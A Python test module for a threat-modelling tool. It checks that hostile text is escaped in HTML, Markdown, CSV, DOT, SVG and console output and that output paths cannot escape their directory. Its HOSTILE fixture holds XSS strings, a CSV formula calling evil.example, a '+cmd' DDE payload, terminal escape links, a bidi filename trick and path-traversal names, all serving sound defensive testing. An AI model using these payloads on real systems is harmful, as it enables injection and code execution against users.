"""Injection: names, descriptions, notes and catalog text full of HTML/script, DOT syntax,
Markdown, CSV formulas, terminal escapes and path separators come out of every output escaped
for it, change no output's structure, and no file is written outside the output directory.

Each output is rendered twice from models of the same shape: once with plain words, once with
hostile text in every free-text field. Escaping must change only text, never structure: the
same HTML tags, the same DOT nodes and edges, the same table columns."""

from __future__ import annotations

import collections
import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from threatmodel.cli import main
from threatmodel.output import safe_name, write_all
from threatmodel.render import FORMATS

HOSTILE = {
    "html": "<script>alert('x')</script><img src=x onerror=alert(1)></style></textarea>",
    "attr": "\"><svg onload=alert(2)>' autofocus onfocus='alert(3)",
    "dot": '"]; pwned [label="x"]; a -> b; <<B>b</B>> \\N \\l \\" { } subgraph cluster_x {',
    "md": "| cell | [link](javascript:alert(4)) `tick` **b**\n\n# injected heading\n- item <br>",
    "csv": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "csv2": "+cmd|' /C calc'!A0",
    "csv3": "-2+3",
    "csv4": "@SUM(1,2)",
    "ansi": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x1b[0m",
    "bidi": "admin\u202etxt.exe\u2066",
    "path": "../../../etc/passwd",
    "tmpl": "{{ 7*7 }} {% raw %} ${HOME} %s %(x)s",
    "ctl": "nul\x00bell\x07tab\tcr\rline\u2028sep",
}
BENIGN = {key: f"plain {key} words" for key in HOSTILE}
URL = "https://example.org/a)](javascript:alert(5))?q=x&b=`c`|d{e}"


def documents(text: dict[str, str]) -> tuple[dict, dict, dict]:
    """A model, a catalog and a decisions file with `text` in every free-text field."""
    model = {
        "system": {
            "id": "sys",
            "name": text["ansi"],
            "owner": text["csv"],
            "description": text["md"],
            "dpia_done": False,
        },
        "data": [
            {
                "id": "d.1",
                "name": text["dot"],
                "description": text["ansi"],
                "categories": ["purchase", "health"],
                "subjects": 2_000_000,
                "source": "data_subject",
            }
        ],
        "elements": [
            {
                "id": "user",
                "kind": "actor",
                "type": "data_subject",
                "name": text["attr"],
                "description": text["bidi"],
            },
            {
                "id": "db..x:y",
                "kind": "datastore",
                "type": "database",
                "name": text["dot"],
                "description": text["path"],
                "stores": ["d.1"],
                "encrypted_at_rest": False,
            },
            {
                "id": "app",
                "kind": "process",
                "type": "scoring",
                "name": text["md"],
                "description": text["tmpl"],
                "inputs": ["d.1"],
                "purpose": text["md"],
            },
        ],
        "flows": [
            {
                "id": "f1",
                "from": "user",
                "to": "app",
                "data": ["d.1"],
                "name": text["csv3"],
                "description": text["ctl"],
            },
            {"id": "f2", "from": "app", "to": "db..x:y", "data": ["d.1"], "name": text["csv4"]},
        ],
        "boundaries": [
            {
                "id": "org",
                "kind": "organisation",
                "name": text["html"],
                "description": text["dot"],
                "members": ["app", "db..x:y"],
            }
        ],
        "controls": [{"mitigation": "MIT-H-2", "targets": ["db..x:y"], "note": text["md"]}],
    }
    catalog = {
        "catalog": {"id": "hostile", "title": text["html"], "version": 1},
        "frameworks": {"acme": {"title": text["attr"]}},
        "mitigations": [
            {
                "id": "MIT-H-1",
                "title": text["csv"],
                "description": text["md"],
                "effect": {"likelihood": -1},
            },
            {
                "id": "MIT-H-2",
                "title": text["dot"],
                "description": text["ansi"],
                "effect": {"impact": -1},
            },
        ],
        "references": [
            {
                "id": "ref-h",
                "kind": "incident",
                "title": text["html"],
                "fact": text["csv2"],
                "url": URL,
            }
        ],
        "risks": [
            {
                "id": "H-SEC-01",
                "title": text["html"],
                "description": text["md"],
                "applies_to": "datastore",
                "when": "personal_data and not encrypted_at_rest",
                "likelihood": 4,
                "impact": 4,
                "modifiers": [{"when": "subjects >= 1_000_000", "impact": 1, "why": text["csv"]}],
                "frameworks": {"stride": ["I"], "acme": [text["dot"]]},
                "mitigations": ["MIT-H-1", "MIT-H-2"],
                "references": ["ref-h"],
                "attack_tree": {
                    "goal": text["dot"],
                    "any": [
                        {"step": text["html"], "blocked_by": "MIT-H-1"},
                        {"all": [{"step": text["md"]}, {"step": text["ansi"]}]},
                    ],
                },
            },
            {
                "id": "H-CREEP-02",
                "title": text["bidi"],
                "description": text["dot"],
                "applies_to": "dataflow",
                "when": "personal_data",
                "likelihood": 3,
                "impact": 3,
                "mitigations": ["MIT-H-1"],
            },
            {
                "id": "H-OPA-03",
                "title": text["md"],
                "description": text["tmpl"],
                "applies_to": "process",
                "when": "personal_data and purpose != 'none'",
                "likelihood": 2,
                "impact": 4,
                "mitigations": ["MIT-H-2"],
            },
            {
                "id": "H-SYS-04",
                "title": text["csv4"],
                "description": text["ctl"],
                "applies_to": "system",
                "when": "not dpia_done",
                "likelihood": 3,
                "impact": 2,
                "mitigations": ["MIT-H-1"],
            },
        ],
    }
    decisions = {
        "decisions": {
            "H-OPA-03@app": {
                "status": "accepted",
                "justification": text["html"],
                "owner": text["csv"],
                "date": "2025-01-01",
                "ticket": text["md"],
            }
        }
    }
    return model, catalog, decisions


def write_inputs(directory: Path, text: dict[str, str]) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    model, catalog, decisions = documents(text)
    for name, data in (
        ("model.yaml", model),
        ("catalog.yaml", catalog),
        ("model.decisions.yaml", decisions),
    ):
        (directory / name).write_text(
            yaml.safe_dump(data, sort_keys=False, allow_unicode=False), encoding="utf-8"
        )
    return directory / "model.yaml"


def usable_formats() -> list[str]:
    needs_dot = {"svg", "data-map", "attack-trees"}
    return [name for name in FORMATS if shutil.which("dot") or name not in needs_dot]


def analyze_captured(directory: Path, text: dict[str, str]):
    import contextlib

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        model = write_inputs(directory, text)
        status = main(
            [
                "analyze",
                str(model),
                "--catalog",
                str(directory / "catalog.yaml"),
                "--no-shipped",
                "-o",
                str(directory / "out"),
                "--format",
                ",".join(usable_formats()),
                "--today",
                "2025-06-01",
            ]
        )
    assert status == 0, err.getvalue()
    return directory / "out", out.getvalue() + err.getvalue()


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """Every report of the hostile model and of its plain twin, and the console output."""
    base = tmp_path_factory.mktemp("injection")
    hostile, console = analyze_captured(base / "hostile", HOSTILE)
    benign, _ = analyze_captured(base / "benign", BENIGN)
    return {"hostile": hostile, "benign": benign, "console": console, "base": base}


def read(outputs, which: str, name: str) -> str:
    return (outputs[which] / FORMATS[name].file).read_text(encoding="utf-8")


def test_every_registered_format_is_checked(outputs):
    """A new output format must get its own escaping check here."""
    assert set(FORMATS) <= set(CHECKED), (
        f"formats without an injection check: {sorted(set(FORMATS) - set(CHECKED))}"
    )
    written = sorted(p.name for p in outputs["hostile"].iterdir())
    assert written == sorted(FORMATS[name].file for name in usable_formats())


def test_json_keeps_hostile_text_exactly(outputs):
    """JSON escapes nothing away: every hostile string reads back exactly as written."""
    data = json.loads(read(outputs, "hostile", "json"))
    strings = set(_strings(data))
    for key in ("html", "attr", "dot", "md", "csv", "ansi", "bidi", "tmpl", "ctl"):
        assert HOSTILE[key] in strings, key


def test_sarif_is_valid_json_with_the_text_intact(outputs):
    """SARIF stays valid JSON and carries the risk titles unchanged."""
    data = json.loads(read(outputs, "hostile", "sarif"))
    assert data["version"] == "2.1.0"
    assert HOSTILE["html"] in set(_strings(data))


@pytest.mark.parametrize("name", ["md", "md-full", "dpia"])
def test_markdown_structure_is_unchanged(outputs, name):
    """Hostile text adds no heading, table column, link, raw HTML tag or control character."""
    hostile, benign = read(outputs, "hostile", name), read(outputs, "benign", name)
    assert _markdown_shape(hostile) == _markdown_shape(benign)
    assert _ragged_tables(hostile) == []
    prose = _without_code_spans(hostile)  # inside a code span nothing is markup
    assert not re.search(r"(?<!\\)<(script|img|svg|style|textarea|br)\b", prose, re.I)
    assert not re.search(r"(?<!\\)\]\(javascript:", prose)
    assert not any(line.startswith("# injected") for line in hostile.splitlines())
    assert not _controls(hostile)


def test_html_has_the_same_tags_and_no_handlers(outputs):
    """The hostile report has exactly the tags and attributes of the plain one: no script,
    no event handler, no javascript: link that the text brought in."""
    hostile, benign = (
        _html_shape(read(outputs, "hostile", "html")),
        _html_shape(read(outputs, "benign", "html")),
    )
    assert hostile["tags"] == benign["tags"]
    assert hostile["attributes"] == benign["attributes"]
    allowed = {"svg", "g", "path", "polygon", "polyline", "ellipse", "text", "title"}
    assert {tag for tag, _ in hostile["drawing"]} <= allowed
    assert not [a for a in hostile["attributes"] if a[1].startswith("on")]
    assert not hostile["javascript"]


def test_csv_cells_never_start_a_formula(outputs):
    """No cell starts with =, +, -, @, tab or CR; hostile text is kept behind an apostrophe."""
    text = read(outputs, "hostile", "csv")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    benign = list(csv.reader(io.StringIO(read(outputs, "benign", "csv").lstrip("\ufeff"))))
    assert [len(r) for r in rows] == [len(r) for r in benign]
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") or "'=HYPERLINK" in c for c in cells)


def test_dot_source_draws_the_same_graph(outputs):
    """The DOT source parses, and has as many nodes and edges as the plain model's: labels
    cannot close a string or a label and add statements."""
    if not shutil.which("dot"):
        pytest.skip("graphviz's dot program is not installed")
    shapes = []
    for which in ("hostile", "benign"):
        source = read(outputs, which, "dot")
        svg = subprocess.run(
            ["dot", "-Tsvg"],
            input=source.encode("utf-8"),
            capture_output=True,
            timeout=120,
            check=True,
        ).stdout.decode("utf-8")
        shapes.append(_svg_shape(svg))
    assert shapes[0]["groups"] == shapes[1]["groups"]


@pytest.mark.parametrize("name", ["svg", "data-map", "attack-trees"])
def test_svg_diagrams_are_well_formed_and_inert(outputs, name):
    """Each SVG parses as XML, has the nodes and edges of the plain one, and holds no script,
    event handler or javascript: link."""
    if name not in usable_formats():
        pytest.skip("graphviz's dot program is not installed")
    hostile = _svg_shape(read(outputs, "hostile", name))
    benign = _svg_shape(read(outputs, "benign", name))
    assert hostile["groups"] == benign["groups"]
    assert hostile["unsafe"] == []


def test_console_output_has_no_terminal_escapes(outputs):
    """The summary and warnings show control characters as visible escapes."""
    assert outputs["console"]
    assert not _controls(outputs["console"])


def test_catalog_show_and_list_escape_terminal_text(outputs, capsys):
    """`catalog show` and `catalog list` print hostile catalog text without escapes."""
    catalog = str(outputs["base"] / "hostile" / "catalog.yaml")
    for argv in (
        ["catalog", "show", "H-SEC-01"],
        ["catalog", "show", "MIT-H-2"],
        ["catalog", "show", "ref-h"],
        ["catalog", "list"],
    ):
        assert main([*argv, "--no-shipped", "--catalog", catalog]) == 0
        captured = capsys.readouterr()
        assert not _controls(captured.out + captured.err), argv


@pytest.mark.parametrize("fmt", ["text", "md"])
def test_diff_output_escapes_hostile_names(outputs, tmp_path, capsys, fmt):
    """`threatmodel diff` against the hostile model names its new findings without terminal
    escapes, and its Markdown tables keep their columns."""
    old = tmp_path / "old.yaml"
    old.write_text("system: {id: sys, name: Old}\nelements:\n  - {id: other, kind: actor}\n")
    hostile = outputs["base"] / "hostile"
    assert (
        main(
            [
                "diff",
                str(old),
                str(hostile / "model.yaml"),
                "--no-shipped",
                "--catalog",
                str(hostile / "catalog.yaml"),
                "--format",
                fmt,
                "--today",
                "2025-06-01",
            ]
        )
        == 0
    )
    captured = capsys.readouterr()
    assert "H-SEC-01" in captured.out
    assert not _controls(captured.out + captured.err)
    assert _ragged_tables(captured.out) == []


def test_error_messages_escape_hostile_values(tmp_path, capsys):
    """A hostile value quoted in an error message is printed with its escapes visible."""
    model = tmp_path / "m.yaml"
    model.write_text(
        yaml.safe_dump(
            {
                "system": {"id": "s"},
                "elements": [
                    {"id": "a", "kind": HOSTILE["ansi"]},
                    {"id": "b", "kind": HOSTILE["bidi"]},
                ],
            }
        )
    )
    assert main(["validate", str(model)]) == 2
    err = capsys.readouterr().err
    assert "unknown kind" in err and "\\x1b[2J" in err
    assert not _controls(err)


def test_nothing_is_written_outside_the_output_directory(outputs):
    """Ids with dots, colons and path-like text and names with ../ leave every file inside
    the output directory (and the inputs' directory untouched)."""
    base = outputs["base"]
    for which in ("hostile", "benign"):
        files = sorted(
            p.relative_to(base / which).as_posix() for p in (base / which).rglob("*") if p.is_file()
        )
        assert files == sorted(
            ["model.yaml", "catalog.yaml", "model.decisions.yaml"]
            + [f"out/{FORMATS[n].file}" for n in usable_formats()]
        )
    assert sorted(p.name for p in base.iterdir()) == ["benign", "hostile"]


def test_diagram_file_names_from_ids_stay_in_their_directory(outputs, monkeypatch, capsys):
    """`threatmodel diagram --data ID` names its file after an id full of dots and colons:
    the file lands in the default directory, under a safe name."""
    if not shutil.which("dot"):
        pytest.skip("graphviz's dot program is not installed")
    work = outputs["base"] / "diagram-cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    model = outputs["base"] / "hostile" / "model.yaml"
    assert (
        main(
            [
                "diagram",
                str(model),
                "--data",
                "d.1",
                "--no-shipped",
                "--catalog",
                str(outputs["base"] / "hostile" / "catalog.yaml"),
            ]
        )
        == 0
    )
    capsys.readouterr()
    files = [p.relative_to(work).as_posix() for p in work.rglob("*") if p.is_file()]
    assert len(files) == 1 and files[0].startswith("threatmodel-out/model/")
    assert ".." not in Path(files[0]).name.strip(".")


def test_portfolio_report_directories_stay_inside_and_apart(tmp_path, capsys):
    """`analyze DIR`: a model file named `...yaml` (stem '..') or `..yaml` (stem '.') gets a
    report directory inside -o like any other, and two models never share one."""
    models = tmp_path / "models"
    models.mkdir()
    for name in ("...yaml", "..yaml", "a b.yaml", "a_b.yaml"):
        (models / name).write_text("system: {id: s}\n")
    out = tmp_path / "out" / "reports"
    main(
        [
            "analyze",
            str(models),
            "-o",
            str(out),
            "--no-shipped",
            "--catalog",
            str(Path(__file__).parent / "fixtures" / "catalog"),
            "--format",
            "json",
            "--quiet",
        ]
    )
    capsys.readouterr()
    reports = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("findings.json"))
    assert len(reports) == 4
    assert all(r.startswith("out/reports/") and r.count("/") == 3 for r in reports), reports


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "",
        "a/b\\c",
        "con\x00.txt",
        "\u2215etc\u2215passwd",
        "x" * 500,
        ".hidden",
        "report.html/../../x",
    ],
)
def test_safe_names_cannot_leave_the_directory(tmp_path, name):
    """Any requested output name becomes one plain file name inside the directory."""
    cleaned = safe_name(name)
    assert cleaned and "/" not in cleaned and "\\" not in cleaned and "\x00" not in cleaned
    assert not cleaned.startswith(".") and len(cleaned) <= 120
    written = write_all(tmp_path / "out", {name: "x"})
    assert [p.parent for p in written] == [tmp_path / "out"]
    assert [p.name for p in (tmp_path / "out").iterdir()] == [cleaned]


def test_names_that_collide_after_cleaning_are_all_kept(tmp_path):
    """Two names that clean to the same file name are both written, not one over the other."""
    written = write_all(tmp_path, {"a:b.svg": "1", "a/b.svg": "2", "A_b.svg": "3"})
    assert [p.name for p in written] == ["a_b.svg", "a_b-2.svg", "A_b-3.svg"]
    assert [p.read_text() for p in written] == ["1", "2", "3"]


# -- helpers ------------------------------------------------------------------------------------

CHECKED = {
    "json",
    "md",
    "md-full",
    "dpia",
    "html",
    "sarif",
    "csv",
    "dot",
    "svg",
    "data-map",
    "attack-trees",
}
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _controls(text: str) -> list[str]:
    """Control characters that a terminal or an editor would act on (newline, tab and CR
    aside)."""
    return [c for c in _CONTROL.findall(text) if c not in "\n\r\t"]


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _markdown_shape(text: str) -> list:
    """Headings, table row widths (unescaped pipes) and list items, in order."""
    shape = []
    for line in text.splitlines():
        if line.startswith("#"):
            shape.append(("heading", len(line) - len(line.lstrip("#"))))
        elif line.startswith("|"):
            shape.append(("row", len(re.findall(r"(?<!\\)\|", line))))
        elif line.startswith("- "):
            shape.append(("item",))
    return shape


def _ragged_tables(text: str) -> list[str]:
    """Markdown table rows with a different number of cells than their table's header."""
    ragged, width = [], None
    for line in text.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        if width is None:
            width = cells
        elif cells != width:
            ragged.append(line)
    return ragged


def _without_code_spans(text: str) -> str:
    """Markdown with its code spans (a run of n backticks to the next run of exactly n) cut."""
    return re.sub(r"(?<![`\\])(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


class _Shape(HTMLParser):
    """Tags and attributes counted; inside an inline diagram (whose shapes follow the names'
    lengths) only which tags and attribute names occur, and any handler."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = collections.Counter()
        self.attributes = collections.Counter()
        self.javascript = []
        self.drawing: set = set()  # (tag, attribute name or "") inside <svg>
        self._svg = 0

    def handle_starttag(self, tag, attrs):
        self._svg += tag == "svg"
        if self._svg:
            self.drawing.add((tag, ""))
            self.drawing.update((tag, name) for name, _ in attrs)
        else:
            self.tags[tag] += 1
        for name, value in attrs:
            if not self._svg:
                self.attributes[(tag, name)] += 1
            if value and value.strip().lower().startswith("javascript:"):
                self.javascript.append((tag, name, value))
            if name.lower().startswith("on"):
                self.javascript.append((tag, name, value))

    def handle_endtag(self, tag):
        self._svg -= tag == "svg" and self._svg > 0


def _html_shape(text: str) -> dict:
    parser = _Shape()
    parser.feed(text)
    parser.close()
    return {
        "tags": parser.tags,
        "attributes": parser.attributes,
        "javascript": parser.javascript,
        "drawing": parser.drawing,
    }


def _svg_shape(text: str) -> dict:
    """Graphviz's node, edge and cluster groups, and anything in the SVG that could run."""
    root = ElementTree.fromstring(text.encode("utf-8"))
    groups = collections.Counter()
    unsafe = []
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        if tag == "g" and element.get("class") in ("node", "edge", "cluster"):
            groups[element.get("class")] += 1
        if tag in ("script", "foreignObject", "iframe"):
            unsafe.append(tag)
        for name, value in element.attrib.items():
            local = name.rsplit("}", 1)[-1]
            if local.lower().startswith("on") or (
                local == "href" and value.strip().lower().startswith("javascript:")
            ):
                unsafe.append(f"{tag} {local}={value}")
    return {"groups": groups, "unsafe": unsafe}
